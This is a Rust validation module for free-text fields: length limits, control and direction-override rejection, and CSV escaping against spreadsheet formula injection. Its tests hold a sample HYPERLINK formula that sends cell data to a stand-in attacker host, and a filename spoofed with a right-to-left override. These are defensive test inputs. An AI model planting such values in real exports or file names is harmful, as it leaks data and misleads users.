//! Free-text fields: trimmed, never empty when required, never longer than a limit.

use super::ValidationError;

/// Limit for short identifying text: names, models, serial numbers, cities.
pub const SHORT: usize = 200;
/// Limit for an address line or a one-line description.
pub const LINE: usize = 500;
/// Limit for notes a person writes by hand.
pub const NOTE: usize = 10_000;

/// A required text value: trimmed, non-empty, at most `max` characters.
pub fn required(field: &str, value: &str, max: usize) -> Result<String, ValidationError> {
    let trimmed = value.trim();
    if trimmed.is_empty() {
        return Err(ValidationError::new(field, "must not be empty"));
    }
    within_limit(field, trimmed, max)
}

/// An optional text value: blank becomes absent, otherwise as [`required`].
pub fn optional(
    field: &str,
    value: Option<&str>,
    max: usize,
) -> Result<Option<String>, ValidationError> {
    match value.map(str::trim) {
        None | Some("") => Ok(None),
        Some(v) => within_limit(field, v, max).map(Some),
    }
}

fn within_limit(field: &str, value: &str, max: usize) -> Result<String, ValidationError> {
    if value.chars().count() > max {
        return Err(ValidationError::new(
            field,
            format!("must be at most {max} characters"),
        ));
    }
    if value
        .chars()
        .any(|c| c.is_control() && c != '\n' && c != '\t' && c != '\r')
    {
        return Err(ValidationError::new(
            field,
            "must not contain control characters",
        ));
    }
    if value.chars().any(is_bidi_control) {
        return Err(ValidationError::new(
            field,
            "must not contain direction controls (U+202A–U+202E, U+2066–U+2069): they make text read other than it is",
        ));
    }
    Ok(value.to_owned())
}

/// The embeddings, overrides and isolates that reorder what follows them: a
/// name with U+202E reads backwards on a certificate or in an SMS. The plain
/// marks (U+200E, U+200F) change no order and stay allowed for Persian text.
pub fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
}

/// Tags: each a short label, lower-cased, without duplicates, at most 50 of them.
pub fn tags(field: &str, values: &[String]) -> Result<Vec<String>, ValidationError> {
    if values.len() > 50 {
        return Err(ValidationError::new(field, "must hold at most 50 tags"));
    }
    let mut out: Vec<String> = Vec::with_capacity(values.len());
    for (i, v) in values.iter().enumerate() {
        let tag = required(&format!("{field}[{i}]"), v, 50)?.to_lowercase();
        if !out.contains(&tag) {
            out.push(tag);
        }
    }
    Ok(out)
}

/// One CSV cell (RFC 4180) that a person will open in a spreadsheet: text that
/// a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, a tab or a carriage
/// return first) gets a leading `'`, so `=HYPERLINK(…)` in a customer's name
/// shows as text; plain numbers (`-12.5`) stay numbers. The owner's raw export
/// does not use this: it gives back what is stored.
pub fn spreadsheet_cell(value: &str) -> String {
    let formula = value.starts_with(['=', '+', '@', '\t', '\r'])
        || (value.starts_with('-') && !is_plain_number(value));
    let value = if formula {
        format!("'{value}")
    } else {
        value.to_owned()
    };
    if value.contains([',', ';', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value
    }
}

/// The text [`spreadsheet_cell`] protected, as it was: a leading `'` before
/// what a spreadsheet would run as a formula is dropped, so a file exported
/// for people imports back unchanged.
pub fn from_spreadsheet_cell(value: &str) -> &str {
    match value.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '@', '\t', '\r', '-']) => rest,
        _ => value,
    }
}

/// `-12`, `-12.50`: digits with at most one point, nothing a spreadsheet reads as more.
fn is_plain_number(value: &str) -> bool {
    let digits = value.strip_prefix('-').unwrap_or(value);
    !digits.is_empty()
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.matches('.').count() <= 1
        && digits.chars().any(|c| c.is_ascii_digit())
}

/// Lower-cased words for substring search, so every backend searches alike.
pub fn search_key<'a>(parts: impl IntoIterator<Item = &'a str>) -> String {
    parts
        .into_iter()
        .filter(|p| !p.is_empty())
        .map(str::to_lowercase)
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_protected_cell_reads_back_as_it_was() {
        for text in [
            "=HYPERLINK(\"x\")",
            "+380",
            "@sum",
            "-x",
            "O'Brien",
            "'quoted'",
        ] {
            let cell = spreadsheet_cell(text);
            let unquoted = cell
                .strip_prefix('"')
                .and_then(|c| c.strip_suffix('"'))
                .map_or(cell.clone(), |c| c.replace("\"\"", "\""));
            assert_eq!(from_spreadsheet_cell(&unquoted), text, "{cell}");
        }
    }

    #[test]
    fn required_trims_and_rejects_blank() {
        assert_eq!(required("name", "  Ann ", 10).unwrap(), "Ann");
        assert_eq!(required("name", "   ", 10).unwrap_err().field, "name");
    }

    #[test]
    fn limits_count_characters_not_bytes() {
        assert!(required("name", "Олена", 5).is_ok());
        assert!(required("name", "Олена!", 5).is_err());
    }

    #[test]
    fn optional_blank_is_none() {
        assert_eq!(optional("x", Some("  "), 5).unwrap(), None);
        assert_eq!(optional("x", None, 5).unwrap(), None);
    }

    #[test]
    fn tags_are_normalised_and_deduplicated() {
        let t = tags("tags", &["VIP".into(), "vip".into(), " Kyiv ".into()]).unwrap();
        assert_eq!(t, vec!["vip", "kyiv"]);
        assert_eq!(tags("tags", &["".into()]).unwrap_err().field, "tags[0]");
    }

    #[test]
    fn spreadsheet_cells_never_run_as_formulas() {
        assert_eq!(
            spreadsheet_cell("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\""
        );
        for risky in ["+380671234567", "@SUM(A1)", "-2+3", "\tcmd", "\r=1", "-"] {
            assert!(
                spreadsheet_cell(risky)
                    .trim_start_matches('"')
                    .starts_with('\''),
                "{risky:?}"
            );
        }
        assert_eq!(spreadsheet_cell("-12.50"), "-12.50");
        assert_eq!(spreadsheet_cell("Кав'ярня, Київ"), "\"Кав'ярня, Київ\"");
        assert_eq!(spreadsheet_cell("plain"), "plain");
    }

    #[test]
    fn direction_overrides_are_refused() {
        assert!(required("name", "Evil\u{202E}gnp.exe", SHORT).is_err());
        assert!(optional("address_line1", Some("a\u{2067}b"), LINE).is_err());
        assert!(required("name", "آب\u{200F}", SHORT).is_ok());
    }

    #[test]
    fn control_characters_are_refused() {
        assert!(required("name", "a\u{0}b", 10).is_err());
    }
}
